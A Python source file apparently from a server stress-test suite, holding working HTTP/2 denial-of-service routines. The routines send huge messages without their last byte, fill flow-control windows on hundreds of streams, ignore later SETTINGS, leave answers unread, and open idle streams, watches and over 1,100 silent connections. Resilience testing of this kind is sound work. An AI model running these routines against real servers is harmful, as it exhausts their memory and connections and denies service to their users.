"""Attacks that hold memory, calls or connections of the server."""
import time

import hpack

import http2
import wire
from http2 import IMAGE, STREAM, WATCH, Connection, frame, is_closed, request
from peer import MIB, ZEROS, Peer, attack, push


@attack
def held_messages(peer: Peer) -> None:
    """60 images of 60 MiB, each sent without its last byte."""
    connection = peer.connect()
    streams = [connection.open(IMAGE) for _ in range(60)]
    message = wire.frame(wire.block(1, wire.header(rows=8192, columns=7680)) + wire.block(3, ZEROS[: 60 * MIB]))
    push_evenly(peer, connection, streams, message[:-1])


@attack
def full_windows(peer: Peer) -> None:
    """500 streams that send as many bytes of rows as their windows allow."""
    connection = peer.connect()
    streams = []
    for _ in range(500):
        stream = connection.open(STREAM)
        streams.append(stream)
        connection.send(stream, wire.frame(wire.stream_header(rows=60_000, columns=1024)))
    message = wire.frame(wire.rows_message(0, ZEROS[: 60 * MIB]))
    push_evenly(peer, connection, streams, message)


def push_evenly(peer: Peer, connection: Connection, streams, data: bytes) -> None:
    """Sends some bytes to each stream in turn, as its window allows."""
    at = dict.fromkeys(streams, 0)
    while at and not peer.over and not connection.closed:
        sent = False
        for stream in list(at):
            if connection.is_over(stream) or at[stream] >= len(data):
                del at[stream]
                continue
            room = min(connection.h2.local_flow_control_window(stream), 256 * 1024)
            if room <= 0:
                continue
            section = data[at[stream] : at[stream] + room]
            if not connection.send(stream, section, deadline=peer.deadline):
                continue
            at[stream] += len(section)
            peer.count("megabytes", 0)
            sent = True
        if not sent:
            connection.pump(0.05)
    peer.counts["megabytes"] = sum(at.values()) // 1_000_000
    while not peer.over and not connection.closed:
        connection.pump(0.1)


@attack
def windows_not_kept(peer: Peer) -> None:
    """200 streams that each send the 4 MiB of the first SETTINGS, and ignore later ones."""
    sock = http2.dial(peer.address, peer.source)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    encoder = hpack.Encoder()
    streams = range(1, 400, 2)
    header = wire.frame(wire.stream_header(rows=60_000, columns=1024))
    rows = wire.frame(wire.rows_message(0, ZEROS[: 60 * MIB]))
    for stream in streams:
        if not push(peer, sock, request(encoder, stream, STREAM) + frame(0, 0, stream, header)):
            return
    for at in range(0, 4 * MIB - 16_384, 16_384):
        for stream in streams:
            if not push(peer, sock, frame(0, 0, stream, rows[at : at + 16_384])):
                peer.count("closed", int(not peer.over))
                return
            peer.count("bytes", 16_384)


@attack
def unread_answers(peer: Peer) -> None:
    """Streams that request every kind of answer and read none."""
    options = wire.number(2, 3) + wire.number(3, 1) + wire.number(4, 1)
    message = wire.frame(wire.stream_header(options=options))
    rows = wire.frame(wire.rows_message(0, bytes(range(256)) * 1024)) + wire.frame(wire.block(4, b""))
    connection = peer.connect(window=0)
    streams = []
    for _ in range(500):
        stream = connection.open(STREAM)
        streams.append(stream)
        connection.send(stream, message + rows, end=True, deadline=peer.deadline)
    while not peer.over and not connection.closed:
        connection.pump(0.1)


@attack
def idle_streams(peer: Peer) -> None:
    """More streams than the limit of calls, without a header; each that ends is opened again."""
    connections = [peer.connect() for _ in range(4)]
    while not peer.over:
        for connection in connections:
            for _ in range(300 - connection.open_streams):
                if connection.closed:
                    break
                connection.open(STREAM)
                peer.count("opened")
            connection.pump(0.05)


@attack
def open_watches(peer: Peer) -> None:
    """Health/Watch on as many streams as the server allows."""
    connections = [peer.connect() for _ in range(4)]
    for connection in connections:
        for _ in range(1000):
            if connection.closed:
                break
            stream = connection.open(WATCH)
            connection.send(stream, wire.frame(wire.block(1, b"")), end=True, deadline=peer.deadline)
            peer.count("opened")
    while not peer.over:
        for connection in connections:
            connection.pump(0.05)


@attack
def silent_connections(peer: Peer) -> None:
    """More connections than the limit, without a byte."""
    sockets = []
    while not peer.over:
        if len(sockets) < 1100:
            try:
                sockets.append(http2.dial(peer.address, peer.source, 1))
                peer.count("connected")
            except OSError:
                peer.count("refused")
                time.sleep(0.05)
            continue
        time.sleep(0.1)
    peer.counts["open"] = sum(not is_closed(each) for each in sockets)
